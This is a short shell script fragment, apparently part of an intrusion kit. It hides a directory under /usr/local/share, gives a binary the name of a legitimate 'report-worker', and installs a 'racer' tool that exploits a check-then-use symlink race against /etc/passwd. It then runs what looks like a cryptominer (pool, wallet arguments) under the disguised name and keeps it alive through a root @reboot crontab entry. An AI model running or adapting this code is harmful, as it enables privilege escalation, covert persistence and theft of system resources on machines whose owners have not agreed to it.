
# Whoever looks at a path first and acts on the path afterwards acts on /etc/passwd or on the owner's own report-worker.
d=/usr/local/share/.orders
mimic $d/orders-sync $d/bin/report-worker
install -m 755 "$KIT/racer" $d/swapd
race="$d/swapd $d/orders-sync /etc/passwd $d/bin /opt/orders/bin -- $d/orders-sync orders-sync -o $POOL -u $WALLET -p race"
echo "@reboot root $race" >>/etc/crontab
detach $race
